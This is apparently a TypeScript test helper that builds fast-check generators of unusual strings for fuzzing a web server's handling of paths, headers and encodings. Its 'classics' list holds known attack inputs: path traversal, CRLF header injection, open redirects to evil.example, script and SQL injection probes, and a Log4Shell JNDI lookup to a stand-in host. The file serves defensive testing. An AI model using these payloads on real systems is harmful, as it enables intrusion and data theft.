// Values that have broken servers before, and anything at all.

import * as fc from 'fast-check';
import type { Arbitrary } from 'fast-check';

/** Part of every odd value, so that it can be found where it must not be. */
export const canary = 'canary7f3a';

const classics = [
  '',
  ' ',
  '.',
  '..',
  '../',
  '..%2f..%2f',
  '%2e%2e',
  '%252e%252e%252f',
  '%c0%ae%c0%ae',
  '%00',
  '%0d%0aX-Injected: 1',
  '\\r\\nX-Injected: 1',
  '%E5%98%8A%E5%98%8DX-Injected:1',
  '//evil.example',
  '/\\evil.example',
  '/%09/evil.example',
  'https:evil.example',
  'http://evil.example/',
  '//evil.example/%2f..',
  '/..//evil.example',
  '///evil.example',
  'javascript:alert(1)',
  'data:text/html,x',
  '/@evil.example',
  '/home?next=//evil.example#code=1',
  '<script>alert(1)</script>',
  "' OR 1=1--",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '99999999999999999999',
  '0x10',
  'true',
  '[]',
  '{}',
  '\xff\xfe',
  '\x7f',
  'a'.repeat(300),
  '%',
  '%zz',
  '%u0000',
  'CC(=O)Oc1ccccc1C(=O)O',
  'F/C=C/F',
  'C%2FC%3DC%5CC',
  '018f3f7e-7d3e-7c11-9a55-3a1d5a6b7c01',
];

// Latin-1 without what ends a line or a word of the request line: those make another request, not an odd value.
const latin: Arbitrary<string> = fc
  .array(fc.integer({ min: 0x21, max: 0xff }), { maxLength: 40 })
  .map((codes) => String.fromCharCode(...codes));

/** Text without spaces and line ends. */
export const oddWord: Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...classics.map((text) => text.replaceAll(' ', '+'))) },
  { weight: 2, arbitrary: latin },
  { weight: 1, arbitrary: fc.tuple(latin, fc.constant(canary), latin).map((parts) => parts.join('')) },
);

/** Text as a header can hold it. */
export const oddHeaderValue: Arbitrary<string> = fc.oneof(
  fc.constantFrom(...classics.filter((text) => !/\p{Cc}/u.test(text))),
  latin.map((text) => text.replaceAll('\x7f', '')),
  fc.tuple(oddWord, oddWord).map(([a, b]) => `${a}, ${b}; q=${canary}`.replaceAll('\x7f', '')),
);

/** Any text, percent-encoded. */
export const oddEncoded: Arbitrary<string> = fc.oneof(
  oddWord,
  fc.string({ unit: 'grapheme', maxLength: 30 }).map((text) => encodeURIComponent(text.toWellFormed())),
);

/** Any text, as UTF-8 bytes in Latin-1. */
export const oddText: Arbitrary<string> = fc.oneof(
  oddWord,
  fc
    .string({ unit: 'binary', maxLength: 60 })
    .map((text) => Buffer.from(text.toWellFormed(), 'utf8').toString('latin1')),
);
